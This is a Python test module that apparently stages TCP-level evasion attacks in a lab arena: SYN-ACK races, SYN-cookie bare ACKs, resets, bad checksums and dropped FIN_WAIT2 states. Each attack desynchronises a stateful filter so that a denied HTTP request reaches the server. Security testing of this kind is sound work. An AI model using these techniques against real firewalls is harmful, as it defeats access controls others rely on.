# SPDX-License-Identifier: Apache-2.0
"""Attacks on the birth and the death of connections.

Each function makes one attack under a name of its own and returns that name;
it has succeeded when the server's log has the name after ``/secret/``.
"""

import time
from dataclasses import replace

from e2e.attacks.arena import ALLOWED, DENIED, LARGE, WRONG, Arena, put, rest
from e2e.namespace import within
from e2e.raw import RawClient
from e2e.segments import NUMBERS, Flags, Segment

MSS = b"\x02\x04\x05\xb4"
SYN_ACK = Flags.SYN | Flags.ACK
STEP_SECONDS = 0.03


def is_syn_ack(segment: Segment) -> bool:
    """Say whether it is a SYN-ACK."""
    return SYN_ACK in segment.flags


def send_syn(client: RawClient, initial: int) -> None:
    """Send a SYN with a number of its own."""
    client.send_segment(replace(client.segment(Flags.SYN, sequence=initial), options=MSS))


def repeated_syn_ack(arena: Arena) -> str:
    """Let a second SYN-ACK pass the watcher after the client's first data, then begin anew.

    The server's SYN-ACKs leave through a bucket that lets the second wait for
    tens of milliseconds, which makes the race that two CPUs win now and then
    certain. A chain that starts again at the second SYN-ACK takes ALLOWED for
    the beginning of the request that the server began with DENIED.
    """
    name = arena.name()
    bucket = ["dev", "eth0", "root", "tbf", "rate", "8kbit", "burst", "100", "limit", "10000"]
    arena.pod.namespace.run("tc", "qdisc", "add", *bucket)
    try:
        with arena.raw() as client:
            send_syn(client, client.initial)
            send_syn(client, client.initial)
            client.sequence += 1
            first = client.receive(want=is_syn_ack)
            assert first is not None
            client.acknowledgement = first.segment.end
            client.send_segment(client.segment(Flags.ACK))
            put(client, 0, DENIED)
            assert client.receive(want=is_syn_ack) is not None
            arena.pod.namespace.run("tc", "qdisc", "delete", "dev", "eth0", "root")
            put(client, 0, ALLOWED)
            put(client, len(ALLOWED), rest(name))
            client.read(0.2)
    finally:
        arena.pod.namespace.run("tc", "qdisc", "delete", "dev", "eth0", "root", check=False)
    return name


def other_syn(arena: Arena, apart: int) -> str:
    """Send a second SYN with other numbers in the middle of a head, then begin anew at both."""
    name = arena.name()
    with arena.raw() as client:
        client.connect()
        put(client, 0, DENIED)
        time.sleep(STEP_SECONDS)
        send_syn(client, (client.initial + apart) % NUMBERS)
        client.receive(STEP_SECONDS)
        put(client, apart, ALLOWED)
        put(client, 0, ALLOWED)
        put(client, len(ALLOWED), rest(name))
        put(client, apart + len(ALLOWED), rest(name))
        client.read(0.2)
    return name


def hidden(name: str) -> tuple[bytes, int]:
    """Return an allowed request, and at which byte a denied one begins that is hidden in its headers."""
    before = b"GET /public HTTP/1.1\r\nX: "
    return before + DENIED + rest(name), len(before)


def _reborn(arena: Arena, client: RawClient, place: int) -> None:
    """End the server's socket by a reset and open another ``place`` bytes behind the old beginning."""
    client.reset()
    assert arena.forgets(client)
    send_syn(client, client.initial + place)
    answer = client.receive(want=is_syn_ack)
    assert answer is not None
    client.acknowledgement = answer.segment.end


def reborn_in_a_body(arena: Arena, offset: int) -> str:
    """Open a new connection where the old one expects the bytes of a body that do not matter.

    The head dies behind the chain (bad checksum), so the server never has it.
    The server's ACK to a SYN out of its window takes the old flow's numbers to
    where the new connection's are. ``offset`` is where the denied request's
    segment begins, from the new connection's first byte.
    """
    name = arena.name()
    head = b"GET /public HTTP/1.1\r\nHost: server\r\nContent-Length: 1000000\r\n\r\n"
    with arena.raw() as client:
        client.connect()
        put(client, 0, head, checksum=WRONG)
        _reborn(arena, client, len(head))
        send_syn(client, client.initial - 10_000_000)
        client.receive(STEP_SECONDS)
        put(client, len(head) + offset, b"x" * -offset + DENIED + rest(name))
        client.read(0.2)
    return name


def reborn_in_a_request(arena: Arena) -> str:
    """Open a new connection whose first byte lies inside of a request that the old one allows.

    The server counts its numbers up by one each 64 ns: a large answer takes the
    old flow's numbers beyond where the new connection's begin. Its bytes are
    acknowledged from one number ahead, which the server takes and the chain does
    not note.
    """
    name = arena.name()
    large = b"GET /public/large HTTP/1.1\r\nHost: server\r\n\r\n"
    request, inside = hidden(name)
    with arena.raw() as client:
        first = client.connect().segment.end
        client.send(large)
        while (client.acknowledgement - first) % NUMBERS < LARGE:
            received = client.receive()
            assert received is not None
            client.acknowledgement = received.segment.end
            client.send_segment(client.segment(Flags.ACK, sequence=client.sequence + 1))
        last = client.acknowledgement
        _reborn(arena, client, len(large) + inside)
        assert (last - client.acknowledgement) % NUMBERS < LARGE, "the download took too long"
        put(client, len(large), request)
        client.read(0.2)
    return name


def cookie_without_syn_ack(arena: Arena) -> tuple[str, list[str]]:
    """Acknowledge a SYN-ACK that is not the last one, where cookies need no more than an ACK.

    Returns the name and the server's sockets. Two SYNs, two cookies; only the
    second is an embryo. An ACK for the first opens a socket at numbers below
    those of the flow that the second then gives birth to.
    """
    name = arena.name()
    with arena.raw() as client:
        request = DENIED + rest(name)
        first = client.initial
        cookies = []
        for initial in (first, first + len(request)):
            send_syn(client, initial)
            answer = client.receive(want=is_syn_ack)
            assert answer is not None
            cookies.append(answer.segment.end)
        client.sequence, client.acknowledgement = first + 1, cookies[0]
        client.send_segment(client.segment(Flags.ACK))
        time.sleep(STEP_SECONDS)
        sockets = arena.sockets(client)
        client.acknowledgement = cookies[1]
        client.sequence = first + 1 + len(request)
        client.send_segment(client.segment(Flags.ACK))
        client.acknowledgement = cookies[0]
        put(client, 0, request)
        put(client, 0, request + ALLOWED)
        client.read(0.2)
        return name, sockets


def cookie_through_an_open_flow(arena: Arena, apart: int) -> str:
    """Open another socket by a bare ACK while the flow of the first still lets ACKs pass.

    A cookie is the client's number plus a secret of ports and time: who has one
    knows the others. After a reset with the right number the server has no
    socket, and the flow stays.
    """
    name = arena.name()
    with arena.raw() as client:
        client.connect()
        cookie = client.acknowledgement
        client.reset()
        assert arena.forgets(client)
        request = DENIED + rest(name)
        client.acknowledgement = cookie + apart
        client.send_segment(client.segment(Flags.ACK, sequence=client.initial + 1 + apart))
        time.sleep(STEP_SECONDS)
        put(client, apart, request.ljust(-apart, b"x")[: -apart or None] + ALLOWED)
        client.acknowledgement = cookie
        put(client, apart, request.ljust(-apart, b"x") + ALLOWED)
        client.read(0.2)
    return name


def cookie_inside_a_request(arena: Arena) -> str:
    """Open another socket by a bare ACK whose first byte lies inside of a request that the flow allows."""
    name = arena.name()
    first = b"GET /public/page HTTP/1.1\r\nHost: server\r\n\r\n"
    request, inside = hidden(name)
    place = len(first) + inside
    with arena.raw() as client:
        client.connect()
        cookie = client.acknowledgement
        client.send(first)
        client.read(until=b"end of page\n")
        client.reset()
        assert arena.forgets(client)
        client.acknowledgement = cookie + place
        client.send_segment(client.segment(Flags.ACK, sequence=client.initial + 1 + place))
        time.sleep(STEP_SECONDS)
        put(client, len(first), request)
        client.read(0.2)
    return name


def silent_end(arena: Arena) -> str:
    """Let the server's FIN_WAIT2 vanish without a packet, then play the handshake's ACK and data again."""
    name = arena.name()
    request = DENIED + rest(name)
    public = ALLOWED + rest("x" * (len(request) - len(ALLOWED + rest(""))))
    with arena.raw() as client:
        client.connect()
        acknowledgement = client.acknowledgement
        client.send(public)
        assert client.read(until=b"no such thing").finished
        assert within(1, lambda: any("FIN-WAIT-2" in line for line in arena.sockets(client)))
        assert arena.forgets(client)
        client.acknowledgement = acknowledgement
        client.send_segment(client.segment(Flags.ACK, sequence=client.initial + 1))
        time.sleep(STEP_SECONDS)
        put(client, 0, request)
        put(client, 0, request + ALLOWED)
        client.read(0.2)
    return name


def cookie_beside_a_dead_handshake(arena: Arena) -> str:
    """Open a socket by a cookie at lower numbers than a flow whose own ACK died behind the chain.

    With cookies the server has no socket before an ACK comes: the flow is born
    by one with a bad checksum, and nothing had to end.
    """
    name = arena.name()
    with arena.raw() as client:
        client.acknowledgement = cookie = client.syn().segment.end
        client.send_segment(replace(client.segment(Flags.ACK), checksum=WRONG))
        request = DENIED + rest(name)
        client.acknowledgement = cookie - len(request)
        client.send_segment(client.segment(Flags.ACK, sequence=client.sequence - len(request)))
        time.sleep(STEP_SECONDS)
        put(client, -len(request), request)
        put(client, -len(request), request + ALLOWED)
        client.read(0.2)
    return name


def cookie_inside_a_body(arena: Arena) -> str:
    """Open another socket by a bare ACK at a number that the flow takes for the middle of a body.

    As in ``cookie_through_an_open_flow``, but ahead of what the flow expects:
    the server's answer to an allowed request makes room for the cookie's number.
    """
    name = arena.name()
    request = b"GET /public/page HTTP/1.1\r\nHost: server\r\n\r\n"
    head = b"GET /public HTTP/1.1\r\nHost: server\r\nContent-Length: 1000000\r\n\r\n"
    place = len(request) + len(head) + 50
    with arena.raw() as client:
        client.connect()
        cookie = client.acknowledgement
        client.send(request)
        client.read(until=b"end of page\n")
        assert (client.acknowledgement - cookie) % NUMBERS > place
        put(client, len(request), head, checksum=WRONG)
        client.reset()
        assert arena.forgets(client)
        client.acknowledgement = cookie + place
        client.send_segment(client.segment(Flags.ACK, sequence=client.initial + 1 + place))
        time.sleep(STEP_SECONDS)
        put(client, place, DENIED + rest(name))
        client.read(0.2)
    return name
